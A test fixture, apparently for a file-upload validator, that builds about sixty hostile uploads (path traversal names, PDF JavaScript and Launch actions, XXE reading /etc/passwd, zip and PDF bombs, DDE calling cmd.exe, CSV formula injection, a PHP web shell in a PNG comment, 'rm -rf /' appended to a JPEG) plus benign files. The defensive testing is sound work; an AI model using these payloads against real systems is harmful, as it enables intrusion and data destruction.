@@ -1,0 +1,328 @@
+"""Sixty files that must be refused, and those that must pass, made on the spot: name → (name sent, bytes)."""
+
+from __future__ import annotations
+
+import io
+import json
+import struct
+import warnings
+import zipfile
+import zlib
+from functools import cache
+
+import typst
+from openpyxl import Workbook
+from PIL import Image, PngImagePlugin
+from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
+XML = b'<?xml version="1.0" encoding="UTF-8"?>'
+_P = "application/vnd.openxmlformats-officedocument."
+PRINCIPAUX = {
+    "docx": ("word/document.xml", f"{_P}wordprocessingml.document.main+xml"),
+    "pptx": ("ppt/presentation.xml", f"{_P}presentationml.presentation.main+xml"),
+    "xlsx": ("xl/workbook.xml", f"{_P}spreadsheetml.sheet.main+xml"),
+}
+
+
+def zipper(parties, comprime=zipfile.ZIP_DEFLATED):
+    sortie = io.BytesIO()
+    with zipfile.ZipFile(sortie, "w", comprime) as archive, warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        for nom, octets in parties:
+            archive.writestr(nom if isinstance(nom, zipfile.ZipInfo) else zipfile.ZipInfo(nom), octets, comprime)
+    return sortie.getvalue()
+
+
+def types(genre, *autres):
+    _, mime = PRINCIPAUX[genre]
+    corps = "".join(f'<Override PartName="/x" ContentType="{m}"/>' for m in (mime, *autres))
+    return XML + f'<Types xmlns="http://x/content-types">{corps}</Types>'.encode()
+
+
+def ooxml(genre="docx", *parties, contenu=b"<a>bonjour</a>", genres=()):
+    principal, _ = PRINCIPAUX[genre]
+    rels = XML + b'<Relationships xmlns="http://x/relationships"/>'
+    base = [("[Content_Types].xml", types(genre, *genres)), ("_rels/.rels", rels), (principal, XML + contenu)]
+    return zipper([*base, *parties])
+
+
+def relation(genre, cible):
+    texte = f'<Relationships xmlns="http://x/r"><Relationship Id="r1" Type="http://x/{genre}" Target="{cible}" TargetMode="External"/></Relationships>'
+    return ("word/_rels/document.xml.rels", XML + texte.encode())
+
+
+def odf(genre="text", *parties, manifeste=b"<manifest/>"):
+    mime = f"application/vnd.oasis.opendocument.{genre}".encode()
+    base = [("mimetype", mime), ("content.xml", XML + b"<a/>"), ("META-INF/manifest.xml", XML + manifeste)]
+    return zipper([*base, *parties])
+
+
+def pdf():
+    source = b"#set document(title: [a])\n= Titre\nBonjour\n#pagebreak()\nSuite"
+    return typst.compile(source)
+
+
+def _pdf_avec(changer, **options):
+    ecrivain = PdfWriter(clone_from=io.BytesIO(pdf()))
+    changer(ecrivain)
+    if "mot_de_passe" in options:
+        ecrivain.encrypt(options["mot_de_passe"], algorithm="RC4-128")
+    sortie = io.BytesIO()
+    ecrivain.write(sortie)
+    return sortie.getvalue()
+
+
+def _action(nom, **suite):
+    def changer(ecrivain):
+        action = DictionaryObject({NameObject("/S"): NameObject(nom)})
+        action.update({NameObject(f"/{c}"): v for c, v in suite.items()})
+        ecrivain.root_object[NameObject("/OpenAction")] = ecrivain._add_object(action)
+
+    return changer
+
+
+def _xfa(ecrivain):
+    forme = DictionaryObject({NameObject("/XFA"): TextStringObject("x"), NameObject("/Fields"): ArrayObject()})
+    ecrivain.root_object[NameObject("/AcroForm")] = forme
+
+
+def pdf_brut(objets, racine=b"1 0 R", suite=b""):
+    """A PDF written by hand, with its table of references."""
+    corps, places = b"%PDF-1.7\n", []
+    for rang, objet in enumerate(objets, 1):
+        places.append(len(corps))
+        corps += b"%d 0 obj\n%s\nendobj\n" % (rang, objet)
+    table = len(corps)
+    corps += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
+    corps += b"".join(b"%010d 00000 n \n" % place for place in places)
+    return corps + b"trailer\n<< /Size %d /Root %s %s>>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(places) + 1,
+        racine,
+        suite,
+        table,
+    )
+
+
+def _pdf_objstm(charge, filtre=b"/FlateDecode"):
+    """A PDF whose object stream inflates to `charge`, referenced by a cross-reference stream."""
+    donnees = zlib.compress(charge, 9)
+    objets = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
+        b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream"
+        % (filtre, len(donnees), donnees),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+    ]
+    corps, places = b"%PDF-1.7\n", []
+    for rang, objet in enumerate(objets, 1):
+        places.append(len(corps))
+        corps += b"%d 0 obj\n%s\nendobj\n" % (rang, objet)
+    table = len(corps)
+    lignes = b"\0\0\0\0\0" + b"".join(b"\1" + struct.pack(">I", p)[1:] + b"\0" for p in [*places, table])
+    lignes += b"\2" + struct.pack(">I", 3)[1:] + b"\0"
+    flux = zlib.compress(lignes)
+    corps += (
+        b"5 0 obj\n<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
+        % len(flux)
+    )
+    return corps + flux + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
+
+
+def png(taille=(8, 8), **textes):
+    sortie, notes = io.BytesIO(), PngImagePlugin.PngInfo()
+    for cle, valeur in textes.items():
+        notes.add_text(cle, valeur)
+    Image.new("RGB", taille, "white").save(sortie, "PNG", pnginfo=notes)
+    return sortie.getvalue()
+
+
+def jpeg(commentaire=b""):
+    sortie = io.BytesIO()
+    Image.new("RGB", (8, 8), "white").save(sortie, "JPEG", comment=commentaire)
+    return sortie.getvalue()
+
+
+def _png_demesure():
+    def morceau(genre, contenu):
+        return struct.pack(">I", len(contenu)) + genre + contenu + struct.pack(">I", zlib.crc32(genre + contenu))
+
+    entete = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + morceau(b"IHDR", entete) + morceau(b"IDAT", b"") + morceau(b"IEND", b"")
+
+
+def classeur():
+    sortie, cahier = io.BytesIO(), Workbook()
+    cahier.active.append(["Action", "Coût"])
+    cahier.save(sortie)
+    return sortie.getvalue()
+
+
+def _chevauche():
+    """The second entry of the directory points at the bytes of the first."""
+    bon = bytearray(ooxml("docx", *((f"word/m{k}.bin", bytes(range(256)) * 40) for k in range(12))))
+    with zipfile.ZipFile(io.BytesIO(bytes(bon))) as archive:
+        grosse = max(archive.infolist(), key=lambda e: e.compress_size)
+        place = archive.start_dir
+    while bon[place : place + 4] == b"PK\x01\x02":
+        longueurs = struct.unpack("<HHH", bon[place + 28 : place + 34])
+        struct.pack_into("<II", bon, place + 20, grosse.compress_size * 9, grosse.file_size)
+        place += 46 + sum(longueurs)
+    return bytes(bon)
+
+
+def _lien():
+    info = zipfile.ZipInfo("word/lien.xml")
+    info.external_attr, info.create_system = 0o120777 << 16, 3
+    return (info, b"/etc/passwd")
+
+
+def _chiffre_zip():
+    octets = bytearray(ooxml())
+    for signature, ecart in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        octets[octets.index(signature) + ecart] |= 1
+    return bytes(octets)
+
+
+def _abime():
+    octets = bytearray(ooxml("docx", ("word/media.xml", b"<a>" + bytes(range(65, 91)) * 50 + b"</a>"), contenu=b"<a/>"))
+    place = octets.index(b"word/media.xml") + len("word/media.xml") + 8
+    octets[place] ^= 0xFF
+    return bytes(octets)
+
+
+MILLIARD = b'<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;&l;&l;&l;&l;&l;">]><a>&m;</a>'
+DEHORS = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
+MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
+JS = TextStringObject("app.alert(1)")
+
+
+@cache
+def hostiles():
+    """The sixty: what it is → (name sent, bytes)."""
+    return {
+        # The name.
+        "remonte de dossier": ("../../etc/passwd.pdf", pdf()),
+        "chemin absolu": ("/etc/cron.d/x.txt", b"x"),
+        "chemin de Windows": ("C:\\Windows\\x.txt", b"x"),
+        "octet nul": ("x.pdf\0.exe", pdf()),
+        "sens inverse": ("photo\u202egnp.exe", png()),
+        "double extension": ("facture.exe.pdf", pdf()),
+        "nom réservé": ("nul.txt", b"x"),
+        "nom caché": (".htaccess.txt", b"x"),
+        "nom démesuré": ("x" * 300 + ".txt", b"x"),
+        "sans extension": ("dossier", pdf()),
+        "programme": ("installer.exe", b"MZ" + bytes(100)),
+        "archive zip": ("tout.zip", zipper([("a.txt", b"a")])),
+        "page html": ("page.html", b"<html></html>"),
+        "image svg": ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
+        "document à macros": ("plan.docm", ooxml()),
+        "fichier vide": ("vide.pdf", b""),
+        # Content that is not what the name says.
+        "exécutable en pdf": ("a.pdf", b"MZ" + bytes(300)),
+        "pdf en docx": ("a.docx", pdf()),
+        "docx en pdf": ("a.pdf", ooxml()),
+        "xlsx en docx": ("a.docx", ooxml("xlsx")),
+        "odt en ods": ("a.ods", odf("text")),
+        "html en txt": ("a.txt", b"bonjour <script>alert(1)</script>"),
+        "svg en png": ("a.png", b"<svg onload='x()'/>"),
+        "binaire en txt": ("a.txt", bytes(range(256))),
+        "jpeg en png": ("a.png", jpeg()),
+        # PDF.
+        "pdf JavaScript": ("a.pdf", _pdf_avec(_action("/JavaScript", JS=JS))),
+        "pdf lance un programme": ("a.pdf", _pdf_avec(_action("/Launch", F=TextStringObject("cmd.exe")))),
+        "pdf fichier incorporé": ("a.pdf", _pdf_avec(lambda e: e.add_attachment("x.exe", b"MZ"))),
+        "pdf chiffré": ("a.pdf", _pdf_avec(lambda e: None, mot_de_passe="secret")),
+        "pdf chiffré sans mot de passe": ("a.pdf", _pdf_avec(lambda e: None, mot_de_passe="")),
+        "pdf formulaire XFA": ("a.pdf", _pdf_avec(_xfa)),
+        "pdf envoie des données": ("a.pdf", _pdf_avec(_action("/SubmitForm", F=TextStringObject("http://x")))),
+        "pdf nom échappé": (
+            "a.pdf",
+            pdf_brut(
+                [
+                    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (x) >> >>",
+                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                    b"<< /Type /Page /Parent 2 0 R >>",
+                ]
+            ),
+        ),
+        "pdf JavaScript comprimé": ("a.pdf", _pdf_objstm(b"6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
+        "pdf bombe": ("a.pdf", _pdf_objstm(b"6 0 (" + b"a" * 200_000_000 + b")")),
+        "pdf tronqué": ("a.pdf", pdf()[: len(pdf()) // 2]),
+        "pdf suivi d'un zip": ("a.pdf", pdf() + zipper([("a.exe", b"MZ")])),
+        "pdf précédé d'html": ("a.pdf", b"<script>x()</script>" + pdf()),
+        "pdf sans page": (
+            "a.pdf",
+            pdf_brut([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
+        ),
+        "pdf qui se mord la queue": (
+            "a.pdf",
+            pdf_brut([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
+        ),
+        "pdf emboîté": ("a.pdf", pdf_brut([b"<< /Type /Catalog /Pages 2 0 R >>", b"[" * 50_000 + b"]" * 50_000])),
+        # Office.
+        "docx macro": ("a.docx", ooxml("docx", ("word/vbaProject.bin", OLE))),
+        "docx type à macros": ("a.docx", ooxml("docx", genres=(MACRO,))),
+        "docx objet OLE": ("a.docx", ooxml("docx", ("word/embeddings/oleObject1.bin", OLE))),
+        "docx OLE déguisé": ("a.docx", ooxml("docx", ("word/media/image1.png", OLE))),
+        "docx ActiveX": ("a.docx", ooxml("docx", ("word/activeX/activeX1.xml", b"<a/>"))),
+        "docx modèle distant": ("a.docx", ooxml("docx", relation("attachedTemplate", "http://x/y.dotm"))),
+        "docx relation vers un fichier": ("a.docx", ooxml("docx", relation("hyperlink", "file://srv/x"))),
+        "docx DDE": ("a.docx", ooxml("docx", contenu=b"<a>DDEAUTO c:\\\\windows\\\\cmd.exe</a>")),
+        "docx entités": ("a.docx", ooxml("docx", contenu=MILLIARD)),
+        "docx entité du dehors": ("a.docx", ooxml("docx", ("word/styles.xml", XML + DEHORS))),
+        "docx bombe": ("a.docx", ooxml("docx", ("word/media/x.xml", b"\0" * 140_000_000))),
+        "docx dix mille fichiers": ("a.docx", ooxml("docx", *((f"word/{k}.xml", b"") for k in range(10_000)))),
+        "docx zip dans le zip": ("a.docx", ooxml("docx", ("word/media/x.bin", zipper([("a", b"a")])))),
+        "docx chemin qui sort": ("a.docx", ooxml("docx", ("../../../etc/x.xml", b"<a/>"))),
+        "docx lien": ("a.docx", ooxml("docx", _lien())),
+        "docx chiffré": ("a.docx", OLE),
+        "zip chiffré": ("a.docx", _chiffre_zip()),
+        "docx parties superposées": ("a.docx", _chevauche()),
+        "docx abîmé": ("a.docx", _abime()),
+        "docx précédé d'un programme": ("a.docx", b"MZ" + bytes(64) + ooxml()),
+        "docx suivi d'un commentaire": ("a.docx", ooxml()[:-2] + b"\x04\x00MZ.."),
+        "docx partie en double": ("a.docx", ooxml("docx", ("word/document.xml", b"<b/>"))),
+        "xlsx lien DDE": (
+            "a.xlsx",
+            ooxml("xlsx", ("xl/externalLinks/e.xml", XML + b"<a><ddeLink ddeService='cmd'/></a>")),
+        ),
+        "odt macros": ("a.odt", odf("text", ("Basic/Standard/Module1.xml", b"<a/>"))),
+        "odt chiffré": ("a.odt", odf("text", manifeste=b"<m><encryption-data/></m>")),
+        # Images and text.
+        "png suivi d'un zip": ("a.png", png() + zipper([("a", b"a")])),
+        "png code en commentaire": ("a.png", png(Comment="<?php system($_GET[0]); ?>")),
+        "png démesuré": ("a.png", _png_demesure()),
+        "png tronqué": ("a.png", png()[:-20]),
+        "jpeg suivi d'un programme": ("a.jpg", jpeg() + b"#!/bin/sh\nrm -rf /"),
+        "jpeg code en commentaire": ("a.jpg", jpeg(b"<script>x()</script>")),
+        "jpeg tronqué": ("a.jpg", jpeg()[:100]),
+        "csv formule": ("a.csv", b"nom;montant\nX;=cmd|'/c calc'!A1\n"),
+        "csv formule arobase": ("a.csv", b"nom;montant\nX;@SUM(1+1)\n"),
+        "geojson qui n'en est pas": ("a.geojson", b'{"type": "Nimporte"}'),
+        "geojson emboîté": ("a.geojson", b'{"type":' + b"[" * 1_000_000),
+        "geojson page": ("a.geojson", json.dumps({"type": "Feature", "properties": {"n": "<script>"}}).encode()),
+    }
+
+
+@cache
+def bons():
+    """Honest files of each kind, and a few odd but honest ones."""
+    graphique = ("word/embeddings/Microsoft_Excel_Sheet.xlsx", classeur())
+    return {
+        "pdf": ("Délibération n° 12 (signée).pdf", pdf()),
+        "pdf réécrit": ("a.pdf", _pdf_avec(lambda e: None)),
+        "docx": ("Lettre d'engagement.docx", ooxml()),
+        "docx avec graphique": ("a.docx", ooxml("docx", graphique)),
+        "docx avec lien": ("a.docx", ooxml("docx", relation("hyperlink", "https://exemple.invalid"))),
+        "xlsx": ("Budget.xlsx", classeur()),
+        "pptx": ("a.pptx", ooxml("pptx")),
+        "odt": ("a.odt", odf("text")),
+        "ods": ("a.ods", odf("spreadsheet")),
+        "png": ("Carte.PNG", png()),
+        "jpeg": ("Photo.jpeg", jpeg()),
+        "geojson": ("a.geojson", b'{"type": "FeatureCollection", "features": []}'),
+        "csv": ("a.csv", "nom;montant\nÉcrins;-12,5\nQueyras;+4\n".encode("cp1252")),
+        "txt": ("a.txt", b"Bonjour. 2 < 3, et a = b."),
+    }
